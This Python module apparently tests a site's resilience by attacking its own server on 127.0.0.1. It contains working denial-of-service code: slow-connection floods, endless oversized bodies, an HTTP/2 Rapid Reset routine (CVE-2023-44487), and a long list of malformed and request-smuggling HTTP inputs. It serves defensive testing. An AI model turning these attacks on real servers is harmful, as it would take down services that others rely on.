"""What a stranger sends to a site to stop it: slow, huge, malformed and forged requests.

Only own sites on 127.0.0.1 are attacked, and each attack ends when its `with` block does.
"""

from __future__ import annotations

import itertools
import random
import socket
import threading
import urllib.parse
from collections.abc import Callable, Iterable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from types import TracebackType

# Seconds until a server that says nothing counts as silent.
PATIENCE = 20
CSRF = "a" * 32
HEAD = "Host: 127.0.0.1\r\n"
POST = f"POST / HTTP/1.1\r\n{HEAD}Cookie: csrftoken={CSRF}\r\n"
FORM = f"{POST}Content-Type: application/x-www-form-urlencoded\r\n"
MEGABYTE = 1 << 20


@dataclass(frozen=True)
class Address:
    """Where a site is; it must be on this machine."""

    host: str
    port: int

    @classmethod
    def of(cls, url: str) -> Address:
        """Return the address of a URL."""
        parts = urllib.parse.urlsplit(url)
        if parts.hostname != "127.0.0.1":
            raise ValueError(f"{url} is not on 127.0.0.1")
        return cls(parts.hostname, parts.port or 80)

    def connect(self) -> socket.socket:
        """Return a connection with a small window: what is not read fills it soon."""
        made = socket.socket()
        made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        made.settimeout(PATIENCE)
        made.connect((self.host, self.port))
        return made


# What an attack does, until the event is set.
Work = Callable[[Address, threading.Event], None]


class Attack:
    """An attack that lasts as long as the `with` block.

    Args:
        work: what is done to the address.
    """

    def __init__(self, work: Work, url: str) -> None:
        self._end = threading.Event()
        self._thread = threading.Thread(target=work, args=(Address.of(url), self._end))

    def __enter__(self) -> None:
        self._thread.start()

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, _: TracebackType | None
    ) -> None:
        self._end.set()
        self._thread.join(60)


def crowd(count: int, head: str | bytes, piece: bytes = b"") -> Work:
    """Return an attack by many connections that read nothing.

    Args:
        head: what each of them sends first.
        piece: what each of them sends every second from then on; lost ones are opened again.
    """
    first = head.encode() if isinstance(head, str) else head

    def work(address: Address, end: threading.Event) -> None:
        open_ones: list[socket.socket] = []
        while not end.wait(1):
            for each in [*open_ones]:
                if not sends(each, piece):
                    open_ones.remove(each)
            while len(open_ones) < count and not end.is_set():
                with suppress(OSError):
                    open_ones.append(address.connect())
                    open_ones[-1].settimeout(0.2)
                    sends(open_ones[-1], first)
        for each in open_ones:
            each.close()

    return work


def sends(connection: socket.socket, data: bytes) -> bool:
    """Send something; return whether the connection is still there."""
    with suppress(TimeoutError):
        try:
            if data:
                connection.sendall(data)
            return connection.recv(1, socket.MSG_DONTWAIT | socket.MSG_PEEK) != b""
        except BlockingIOError:
            return True
        except OSError as error:
            if isinstance(error, TimeoutError):
                raise
            connection.close()
            return False
    return True


def stream(requests: Iterable[bytes | Iterable[bytes]], pause: float) -> Work:
    """Return an attack by one request after the other, over a new connection each time."""

    def work(address: Address, end: threading.Event) -> None:
        for request in itertools.cycle(requests):
            if end.wait(pause):
                return
            with suppress(OSError):
                ask(address, request, end)

    return work


def ask(
    address: Address,
    request: bytes | Iterable[bytes],
    end: threading.Event | None = None,
    patience: float = PATIENCE,
) -> str:
    """Send a request as it is, and return all of the answer; empty for none."""
    with address.connect() as server:
        server.settimeout(patience)
        with suppress(BrokenPipeError, ConnectionResetError):
            for part in [request] if isinstance(request, bytes) else request:
                server.sendall(part)
                if end and end.is_set():
                    return ""
        answer = b""
        with suppress(ConnectionResetError, TimeoutError):
            while part := server.recv(65536):
                answer += part
        return answer.decode(errors="replace")


def status(answer: str) -> int:
    """Return the status of an answer; 0 for none."""
    words = answer.split(" ", 2)
    return int(words[1]) if words[0].startswith("HTTP/1.") else 0


def get(path: str = "/", headers: str = "", method: str = "GET") -> bytes:
    """Return a request without a body, after which the connection closes."""
    return f"{method} {path} HTTP/1.1\r\n{HEAD}{headers}Connection: close\r\n\r\n".encode("latin-1")


def post(body: bytes, headers: str = "") -> bytes:
    """Return a form with a length."""
    return (
        f"{FORM}{headers}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body
    )


def chunked(body: bytes, headers: str = "") -> bytes:
    """Return a form in chunks, without a length."""
    size = f"{len(body):x}\r\n".encode()
    head = f"{FORM}{headers}Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n".encode()
    return head + size + body + b"\r\n0\r\n\r\n"


def form(**fields: str) -> bytes:
    """Return a form that the app accepts."""
    return urllib.parse.urlencode({"csrfmiddlewaretoken": CSRF, **fields}).encode()


def many(count: int, name: str = "x-{}", value: str = "y") -> str:
    """Return so many different headers."""
    return "".join(f"{name.format(number)}: {value}\r\n" for number in range(count))


def parts(count: int, boundary: str = "b") -> bytes:
    """Return a form with so many files."""
    part = f'--{boundary}\r\nContent-Disposition: form-data; name="f"; filename="f"\r\n\r\na\r\n'
    kind = f"multipart/form-data; boundary={boundary}".encode()
    body = f"{part * count}--{boundary}--\r\n".encode()
    return post(body).replace(b"application/x-www-form-urlencoded", kind)


def endless(head: str, megabytes: int, start: bytes = b"", end: bytes = b"") -> Iterator[bytes]:
    """Yield a request whose body is so large."""
    yield head.encode()
    for _ in range(megabytes):
        yield start + b"a" * MEGABYTE + end


class Huge:
    """Bodies that are far too large, with a length and in chunks; each iteration begins anew."""

    def __iter__(self) -> Iterator[Iterator[bytes]]:
        yield endless(f"{FORM}Content-Length: {490 << 20}\r\n\r\n", 490)
        size = f"{MEGABYTE:x}\r\n".encode()
        yield endless(f"{FORM}Transfer-Encoding: chunked\r\n\r\n", 490, size, b"\r\n")


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """Return a frame of HTTP/2."""
    size, rest = len(payload).to_bytes(3, "big"), stream_id.to_bytes(4, "big")
    return size + bytes([kind, flags]) + rest + payload


def rapid_reset(connection: socket.socket, host: str, count: int) -> None:
    """Open and reset so many streams of HTTP/2: https://www.cve.org/CVERecord?id=CVE-2023-44487."""
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    # GET, https, / and the name, as indexed headers.
    headers = b"\x82\x87\x84\x41" + bytes([len(host)]) + host.encode()
    with suppress(OSError):
        for number in range(1, 2 * count, 2):
            reset = frame(3, 0, number, (8).to_bytes(4, "big"))
            connection.sendall(frame(1, 5, number, headers) + reset)


LONG = "a" * 15000
# Every limit and rule of a server that a request can break; none may harm others.
MALFORMED = {
    "many headers": get(headers=many(200)),
    "very many headers": get(headers=many(1200, "x{}", "")),
    "as many headers as fit": get(headers=many(2000, "{:x}", "")),
    "the same header often": get(headers="x-a: b\r\n" * 1000),
    "a long header": get(headers=f"x-a: {LONG}\r\n"),
    "a header of 40 KB": get(headers=f"x-a: {LONG * 3}\r\n"),
    "a long name of a header": get(headers=f"{LONG}: a\r\n"),
    "a long cookie": get(headers=f"Cookie: csrftoken={LONG}\r\n"),
    "many cookies": get(headers="Cookie: " + "; ".join(f"c{n}=1" for n in range(1500)) + "\r\n"),
    "a long query": get(f"/?a={LONG}"),
    "many parameters": get("/?" + "a&" * 7000),
    "a long path": get(f"/{LONG}"),
    "a long method": get(method=LONG),
    "an unknown method": get(method="BREW"),
    "a method in small letters": get(method="get"),
    "TRACE": get(method="TRACE"),
    "CONNECT": get("example.com:443", method="CONNECT"),
    "CONNECT with a path": get("/", method="CONNECT"),
    "OPTIONS *": get("*", method="OPTIONS"),
    "GET *": get("*"),
    "an absolute URL": get("http://example.com/"),
    "no path": get(""),
    "a path without a slash": get("a"),
    "a bad escape": get("/%zz"),
    "an escaped zero byte": get("/%00"),
    "an escaped line break": get("/%0d%0aa:%20b"),
    "escaped bytes that are no UTF-8": get("/%ff%fe?%ff"),
    "bytes that are no UTF-8": get("/\xff\xfe?\xff"),
    "a zero byte": get("/\0"),
    "a space in the path": get("/a b"),
    "a zero byte in a header": get(headers="x-a: \0\r\n"),
    "bytes above 127 in a header": get(headers="x-a: \xff\xfe\r\nCookie: \xff=\xfe\r\n"),
    "control characters in a header": get(headers="x-a: \x01\x1b[31m\r\n"),
    "a line without a colon": get(headers="nonsense\r\n"),
    "a space before the colon": get(headers="x-a : b\r\n"),
    "a folded header": get(headers="x-a: b\r\n c\r\n"),
    "an empty name": get(headers=": b\r\n"),
    "line breaks alone": get().replace(b"\r\n", b"\n"),
    "carriage returns alone": get().replace(b"\r\n", b"\r"),
    "no host": get().replace(HEAD.encode(), b""),
    "an empty host": get().replace(b"127.0.0.1", b""),
    "two hosts": get(headers="Host: example.com\r\n"),
    "a host with a space": get().replace(b"127.0.0.1", b"a b"),
    "an unknown version": get().replace(b"HTTP/1.1", b"HTTP/9.9"),
    "HTTP/0.9": b"GET /\r\n\r\n",
    "HTTP/2 without its beginning": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "a TLS greeting": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500),
    "noise": random.Random(1).randbytes(3000) + b"\r\n\r\n",
    "a negative length": get(headers="Content-Length: -1\r\n"),
    "a length that is no number": get(headers="Content-Length: x\r\n"),
    "a length beyond 64 bits": get(headers="Content-Length: 99999999999999999999\r\n"),
    "two lengths": get(headers="Content-Length: 1\r\nContent-Length: 2\r\n"),
    "a length and chunks": chunked(b"a", "Content-Length: 3\r\n"),
    "chunks twice": chunked(b"a", "Transfer-Encoding: chunked\r\n"),
    "an unknown encoding": chunked(b"a").replace(b"chunked", b"xchunked"),
    "an encoding with a tab": chunked(b"a").replace(b": chunked", b":\tchunked"),
    "an encoding on a folded line": chunked(b"a").replace(b": chunked", b":\r\n chunked"),
    "a bad size of a chunk": chunked(b"a").replace(b"1\r\na", b"zz\r\na"),
    "a chunk with a long extension": chunked(b"a").replace(b"1\r", f"1;{LONG}\r".encode()),
    "a trailer": chunked(b"a").replace(b"0\r\n\r\n", b"0\r\nHost: a\r\n\r\n"),
    "a body of a GET": post(b"a" * 1000).replace(b"POST", b"GET"),
    "an unexpected expectation": get(headers="Expect: tea\r\n"),
    "an upgrade": get(headers="Upgrade: websocket\r\nConnection: Upgrade\r\n"),
    "an upgrade to h2c": get(headers="Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n"),
    "many ranges": get("/static/error.html", "Range: bytes=" + "0-1," * 2000 + "5-6\r\n"),
    "many encodings": get(headers="Accept-Encoding: " + "gzip;q=0.1," * 1000 + "br\r\n"),
    "many fields": post(form() + b"&a=1" * 2000),
    "many files": parts(300),
    "a multipart form without an end": parts(1)[:-8],
    "a long boundary": parts(1, LONG[:9000]),
    "an unknown charset": post(form(target="x")).replace(b"urlencoded", b"urlencoded; charset=no"),
    "a body for a page that reads none": post(b"a" * 900000).replace(b"POST /", b"POST /admin/"),
    "a body for a page that is none": post(b"a" * 900000).replace(b"POST /", b"POST /no/where"),
}  # fmt: skip
